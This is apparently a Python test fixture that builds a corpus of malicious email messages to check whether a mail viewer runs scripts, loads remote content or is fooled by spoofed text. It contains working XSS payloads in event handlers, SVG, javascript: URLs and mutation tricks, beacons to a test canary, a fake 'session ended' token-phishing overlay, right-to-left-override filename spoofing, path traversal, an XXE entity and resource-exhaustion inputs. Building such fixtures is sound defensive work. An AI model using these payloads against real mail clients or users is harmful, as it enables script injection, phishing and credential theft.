"""Mail that attacks whoever looks at it: one letter a way in.

Each says, where its attack works, `ran` to the canary's address or changes the page: the canary is
an HTTP server of the test that nobody may ever ask, `{canary}` in the texts.
"""

import base64

EVIL = "ev\u202egpj.exe"  # "evexe.jpg" to who trusts the order of letters
RAN = "fetch('{canary}/ran');parent.ran=1;top.ran=1;document.title='ran';alert(1)"


def html(body):
    """One letter of one HTML part."""
    return (b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" +
            base64.encodebytes(body.encode()).replace(b"\n", b"\r\n"))


def text(body):
    return (b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n"
            b"Content-Transfer-Encoding: 8bit\r\n\r\n" + body.encode())


# HTML parts. "plain" ones have nothing that could be shown before it is let load.
BODIES = {
    "script": "<p>hello</p><script>{ran}</script><script src='{canary}/a.js'></script>",
    "handlers": "<img src=x onerror=\"{ran}\"><body onload=\"{ran}\"><details open ontoggle=\"{ran}\">"
                "<input autofocus onfocus=\"{ran}\"><video><source onerror=\"{ran}\"></video>",
    "svg": "<svg onload=\"{ran}\"><script>{ran}</script><image href='{canary}/i.png'/>"
           "<use href='{canary}/u.svg#a'/><foreignObject><iframe src='{canary}/f'></iframe>"
           "</foreignObject><animate onbegin=\"{ran}\" attributeName=x dur=1s /></svg>",
    "remote images": "<img src='{canary}/i.png' srcset='{canary}/2x.png 2x'><picture>"
                     "<source srcset='{canary}/s.png'><img src='{canary}/p.png'></picture>"
                     "<table background='{canary}/b.png'><tr><td>x</table>"
                     "<div style=\"background:url('{canary}/bg.png')\">x</div>"
                     "<input type=image src='{canary}/in.png'><video poster='{canary}/v.png' "
                     "src='{canary}/v.mp4' autoplay></video><audio src='{canary}/a.mp3' autoplay>",
    "styles": "<link rel=stylesheet href='{canary}/s.css'><style>@import '{canary}/i.css';"
              "@font-face{font-family:f;src:url('{canary}/f.woff')} p{font-family:f;"
              "background:image-set('{canary}/is.png' 1x);cursor:url('{canary}/c.cur'),auto}"
              "</style><p style='list-style:url({canary}/l.png)'>x</p>",
    "hints": "<link rel=preload as=image href='{canary}/pl.png'><link rel=prefetch href='{canary}/pf'>"
             "<link rel=dns-prefetch href='//canary.example'><link rel=preconnect href='{canary}'>"
             "<link rel=icon href='{canary}/favicon.ico'><link rel=manifest href='{canary}/m.json'>"
             "<link rel=modulepreload href='{canary}/m.js'>"
             "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"{canary}/sr\"]}]}</script>",
    "frames": "<iframe src='{canary}/f'></iframe><iframe srcdoc=\"<script>{ran}</script>\"></iframe>"
              "<object data='{canary}/o'></object><embed src='{canary}/e'>"
              "<iframe src=\"javascript:{ran}\"></iframe><frameset><frame src='{canary}/fr'></frameset>"
              "<portal src='{canary}/portal'></portal><fencedframe></fencedframe>",
    "links": "<a id=l href=\"javascript:{ran}\" target=_top>press me</a> "
             "<a id=r href='{canary}/clicked' target=_blank ping='{canary}/ping'>and me</a> "
             "<a id=t href='{canary}/top' target=_top>and me</a> <a id=s href='{canary}/self'>me</a>"
             "<a id=d href='{canary}/d' download>load</a>"
             "<map name=m><area href=\"javascript:{ran}\" shape=default></map>",
    "refresh": "<meta http-equiv=refresh content='0;url={canary}/refresh'><p>moved</p>",
    "refresh to script": "<meta http-equiv=refresh content=\"0;url=javascript:{ran}\">"
                         "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>{ran}"
                         "</script>\"><meta http-equiv=Set-Cookie content='mailfuse=x'>",
    "base": "<base href='{canary}/' target=_top><img src=b.png><a href=b>b</a>",
    "forms": "<form id=f action='{canary}/form' method=post target=_top><input name=password "
             "type=password autofocus><button formaction=\"javascript:{ran}\">log in</button>"
             "<input type=submit value=go></form><isindex action='{canary}/ix'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">"
              "<img src='{canary}/csp.png'><script>{ran}</script>",
    "mutation": "<noscript><p title=\"</noscript><img src=x onerror={ran}>\"><math><mtext><table>"
                "<mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={ran}&gt;\">"
                "<template shadowrootmode=open><script>{ran}</script></template>",
    "look of the console": "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>"
                           "<h1>Your session has ended</h1><form action='{canary}/token'>"
                           "<input name=token></form></div>",
    "xml": "<?xml version='1.0'?><?xml-stylesheet href='{canary}/x.xsl'?><!DOCTYPE x [<!ENTITY e "
           "SYSTEM '{canary}/e'>]><x>&e;</x>",
    "unclosed": "</body></html><!--" + "<div>" * 3000 + "<script>{ran}</script>",
}

# Subjects, senders and names of files: text to be shown, never to be run.
TEXTS = {
    "markup": "<script>{ran}</script><img src={canary}/s.png onerror={ran}>",
    "quotes": "\"'><svg/onload={ran}>`${alert(1)}` {{7*7}}",
    "rtl": "invoice \u202egpj.exe\u202c \u2067x\u2069 done",
    "controls": "bell\x07 escape\x1b[31m backspace\x08\x08\x08 nul-ish\x01 \u009b31m",
    "invisible": "pay\u200bpal \u2028line\u2029paragraph \ufeffbom \U000e0041tag",
    "zalgo": "Z" + "\u0336\u0489\u035c" * 200,
    "long": "x" * 900,
    "entities": "&lt;b&gt; &amp; &#x3c;script&#x3e;",
}


def nested(depth, inside):
    """Parts within parts, `depth` of them."""
    lines = [b"MIME-Version: 1.0"]
    for n in range(depth):
        lines += [b'Content-Type: multipart/mixed; boundary="b%d"' % n, b"", b"--b%d" % n]
    lines += [b"Content-Type: text/html", b"", inside.encode()]
    lines += [b"--b%d--" % n for n in reversed(range(depth))]
    return b"\r\n".join(lines) + b"\r\n"


def beside(count, inside):
    """`count` parts one after another, each an attachment."""
    lines = [b"MIME-Version: 1.0", b'Content-Type: multipart/mixed; boundary="b"', b"",
             b"--b", b"Content-Type: text/html", b"", inside.encode()]
    for n in range(count):
        lines += [b"--b", b"Content-Type: image/svg+xml",
                  b'Content-Disposition: attachment; filename="%d.svg"' % n, b"", b"<svg/>"]
    return b"\r\n".join(lines + [b"--b--"]) + b"\r\n"


def attachments(canary):
    """Names that lie, and content that would run if it were opened in the page."""
    names = ["<img src=x onerror=alert(1)>.html", "../../etc/passwd", EVIL, "a\tb\x7f.txt",
             "x" * 300 + ".pdf", "", "con.svg"]
    lines = [b"MIME-Version: 1.0", b'Content-Type: multipart/mixed; boundary="b"', b"",
             b"--b", b"Content-Type: text/plain", b"", b"see what is attached"]
    ran = fill(RAN, canary).encode()
    for name in names:
        encoded = b"=?utf-8?B?" + base64.b64encode(name.encode()) + b"?="
        lines += [b"--b", b"Content-Type: text/html",
                  b'Content-Disposition: attachment; filename="' + encoded + b'"', b"",
                  b"<script>" + ran + b"</script>"]
    return b"\r\n".join(lines + [b"--b--"]) + b"\r\n"


def addressed(count, inside):
    """`count` addresses in To, each with markup in its name."""
    names = ",\r\n ".join(f'"<b onclick=alert({n})>" <c{n}@customers.example>' for n in range(count))
    return letter("corpus many addresses", html(inside)).replace(b"you@example.com", names.encode())


def charsets(inside):
    """Parts whose bytes are not what their charset says, and charsets that nobody has."""
    lines = [b"MIME-Version: 1.0", b'Content-Type: multipart/mixed; boundary="b"', b""]
    for name in [b"utf-16", b"iso-2022-jp", b"utf-7", b"x-none", b"\xff\xfe", b"hz-gb-2312", b"utf-8"]:
        lines += [b"--b", b"Content-Type: text/html; charset=" + name, b"",
                  b"\x1b$B+ADw-\xff\xc0\xbc~{" + inside.encode() + b"\xe2\x82"]
    return b"\r\n".join(lines + [b"--b--"]) + b"\r\n"


def fill(template, canary):
    return template.replace("{ran}", RAN).replace("{canary}", canary)


def encoded_word(value):
    """RFC 2047, in words of at most 75 characters."""
    data, words = value.encode(), []
    while data:
        size = min(45, len(data))
        while size < len(data) and data[size] & 0xC0 == 0x80:
            size -= 1
        words.append("=?utf-8?B?" + base64.b64encode(data[:size]).decode() + "?=")
        data = data[size:]
    return "\r\n ".join(words)


def letter(subject, content, sender="shop@example.com"):
    head = (f"From: {sender}\r\nTo: you@example.com\r\nSubject: {encoded_word(subject)}\r\n"
            "Date: Thu, 01 Jan 2026 00:00:00 +0000\r\nMessage-ID: <1@example.com>\r\n")
    return head.encode() + content


def corpus(canary):
    """(name, letter) of every way in."""
    for name, body in BODIES.items():
        yield name, letter(f"corpus {name}", html(fill(body, canary)))
    for name, value in TEXTS.items():
        value = fill(value, canary)
        yield f"text {name}", letter(value, text(f"{value}\r\n"), f'"{name}" <shop@example.com>')
    deepest = fill("<script>{ran}</script><img src={canary}/deep.png>", canary)
    yield "nested", letter("corpus nested", nested(10000, deepest))
    yield "beside", letter("corpus beside", beside(10000, deepest))
    yield "attachments", letter("corpus attachments", attachments(canary))
    yield "long subject", letter("<script>" + "s" * 100_000, html(fill(BODIES["script"], canary)))
    yield "many addresses", addressed(5000, deepest)
    yield "large", letter("corpus large", html(deepest + "<p onclick='alert(1)'>x" * 230_000 + deepest))
    yield "charsets", letter("corpus charsets", charsets(deepest))
    yield "no charset", letter("corpus no charset", html("<p>x").replace(b"utf-8", b"utf-7'\x01"))
    yield "cut", letter("corpus cut", b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
                        b"boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n"
                        b"Content-Transfer-Encoding: base64\r\n\r\n!!!!PHNjcmlwdD4\r\n")
